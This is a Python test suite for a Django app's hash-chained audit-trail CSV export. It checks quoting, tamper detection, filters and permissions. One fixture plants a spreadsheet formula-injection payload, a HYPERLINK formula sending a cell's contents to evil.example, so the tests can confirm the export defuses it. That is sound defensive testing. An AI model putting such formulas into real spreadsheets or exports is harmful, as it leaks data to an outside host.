"""The audit trail as CSV: an examiner downloads it and checks it with nothing of Arbiter's
(only the recipe in docs/registry.md, re-implemented here with hashlib and json)."""

from __future__ import annotations

import csv
import hashlib
import io
import json

import pytest
from django.test import Client
from rest_framework.test import APIClient

from governance import services
from governance.models import VersionStatus
from tests.governance.factories import note_version

pytestmark = pytest.mark.django_db

ZEROS = "0" * 64


def api(user) -> APIClient:
    client = APIClient()
    client.force_authenticate(user)
    return client


def download(client, url: str) -> tuple[str, list[dict[str, str]]]:
    response = client.get(url)
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    text = b"".join(response.streaming_content).decode("utf-8")
    name = response["Content-Disposition"].split('filename="')[1].rstrip('"')
    return name, list(csv.DictReader(io.StringIO(text, newline="")))


def recomputed_hash(row: dict[str, str]) -> str:
    """docs/registry.md, "Audit trail export", followed to the letter."""

    def number_or_null(cell: str) -> int | None:
        return None if cell == "" else int(cell)

    row = {key: value[1:] if value.startswith("'") else value for key, value in row.items()}
    payload = {key: value for key, value in row.items() if key != "hash"}
    payload["seq"] = int(row["seq"])
    payload["actor_id"] = number_or_null(row["actor_id"])
    payload["version_number"] = number_or_null(row["version_number"])
    payload["details"] = json.loads(row["details"])
    text = json.dumps(payload, sort_keys=True, separators=(",", ":"), ensure_ascii=False)
    return hashlib.sha256(text.encode("utf-8")).hexdigest()


def chain_problems(rows: list[dict[str, str]]) -> list[str]:
    problems, previous = [], ZEROS
    for expected_seq, row in enumerate(rows, start=1):
        if int(row["seq"]) != expected_seq:
            problems.append(f"#{row['seq']}: expected #{expected_seq}")
        if row["prev_hash"] != previous:
            problems.append(f"#{row['seq']}: does not chain")
        if recomputed_hash(row) != row["hash"]:
            problems.append(f"#{row['seq']}: altered")
        previous = row["hash"]
    return problems


@pytest.fixture
def history(maker, checker):
    """Two items through their lifecycles; a reason with a comma, quotes, a line break
    and accents, the things a CSV file gets wrong."""
    rules = note_version(maker=maker, checker=checker, status=VersionStatus.ACTIVE)
    other = note_version(maker=maker, checker=checker, status=VersionStatus.SUBMITTED, name="fees")
    services.version_reject(
        actor=checker, version=other, comment='Too high, "by far".\nSee the café memo.'
    )
    # Text a spreadsheet would run as a formula, and text that starts with a quote already.
    formula = note_version(maker=maker, checker=checker, status=VersionStatus.SUBMITTED, name="x")
    services.version_reject(
        actor=checker, version=formula, comment='=HYPERLINK("https://evil.example/?"&A1,"ok")'
    )
    quoted = note_version(maker=maker, checker=checker, status=VersionStatus.SUBMITTED, name="y")
    services.version_reject(actor=checker, version=quoted, comment="'quoted' as it was")
    return rules, other


def test_an_examiner_checks_the_whole_trail_without_arbiter(history, auditor):
    name, rows = download(api(auditor), "/api/v1/audit/events/?format=csv")
    assert name == "audit-trail.csv"
    assert len(rows) >= 8
    assert [int(r["seq"]) for r in rows] == list(range(1, len(rows) + 1))  # oldest first
    assert chain_problems(rows) == []
    head = api(auditor).get("/api/v1/audit/verify/").json()["head_hash"]
    assert rows[-1]["hash"] == head  # the head the page and the API show
    rejected = next(r for r in rows if r["action"] == "reject")
    assert rejected["comment"] == 'Too high, "by far".\nSee the café memo.'
    assert (rejected["item_name"], rejected["version_number"]) == ("fees", "1")
    created = next(r for r in rows if r["action"] == "create")
    assert json.loads(created["details"]) == {"new_item": True}


def test_cells_a_spreadsheet_would_run_are_text_and_still_verify(history, auditor):
    _, rows = download(api(auditor), "/api/v1/audit/events/?format=csv")
    comments = [row["comment"] for row in rows if row["action"] == "reject"]
    assert '\'=HYPERLINK("https://evil.example/?"&A1,"ok")' in comments
    assert "''quoted' as it was" in comments
    assert chain_problems(rows) == []  # the recipe removes the one quote before hashing


@pytest.mark.parametrize(
    "tamper",
    [
        lambda rows: rows[2].update(comment="approved, no questions"),  # a field altered
        lambda rows: rows.pop(3),  # an event cut
        lambda rows: rows.insert(1, dict(rows[1])),  # an event repeated
    ],
)
def test_a_file_altered_after_download_fails_the_check(history, auditor, tamper):
    _, rows = download(api(auditor), "/api/v1/audit/events/?format=csv")
    tamper(rows)
    assert chain_problems(rows) != []


def test_a_filtered_extract_holds_its_events_and_each_still_verifies(history, auditor):
    name, rows = download(
        api(auditor), "/api/v1/audit/events/?item=fees&since=2020-01-01T00:00:00Z&format=csv"
    )
    assert name == "audit-trail-fees-from-2020-01-01.csv"
    assert [r["action"] for r in rows] == ["create", "submit", "reject"]
    assert all(recomputed_hash(r) == r["hash"] for r in rows)


def test_only_audit_readers_download_and_bad_filters_answer_in_json(history, maker, auditor):
    refused = api(maker).get("/api/v1/audit/events/?format=csv")
    assert refused.status_code == 403
    assert refused["Content-Type"] == "application/json"
    assert refused.json()["error"]["code"] == "permission_denied"
    bad = api(auditor).get("/api/v1/audit/events/?since=last-tuesday&format=csv")
    assert bad.status_code == 400
    assert "since" in bad.json()["error"]["details"]


def test_the_audit_trail_page_links_the_csv_of_what_it_shows(history, auditor):
    browser = Client()
    browser.force_login(auditor)
    page = browser.get("/audit/?item=fees&since=2020-01-01").content.decode()
    link = next(
        line.split('href="')[1].split('"')[0].replace("&amp;", "&")
        for line in page.splitlines()
        if "as CSV" in line
    )
    assert "Download all 3 as CSV" in page
    _, rows = download(browser, link)
    assert [r["action"] for r in rows] == ["create", "submit", "reject"]


def test_events_filter_by_what_was_done(history, auditor, make_user):
    make_user("newcomer", "maker")  # a user_create event
    rejections = api(auditor).get("/api/v1/audit/events/?action=reject").json()["results"]
    assert [e["item_name"] for e in rejections] == ["y", "x", "fees"]
    name, rows = download(api(auditor), "/api/v1/audit/events/?action=user_create&format=csv")
    assert name == "audit-trail-user_create.csv"
    assert "newcomer" in [r["item_name"] for r in rows]
    assert {r["action"] for r in rows} == {"user_create"}
    bad = api(auditor).get("/api/v1/audit/events/?action=delete")
    assert bad.status_code == 400 and "action" in bad.json()["error"]["details"]
    browser = Client()
    browser.force_login(auditor)
    page = browser.get("/audit/?action=reject").content.decode()
    assert '<option value="role_grant">Granted roles</option>' in page
    assert "Download all 3 as CSV" in page and "action=reject" in page
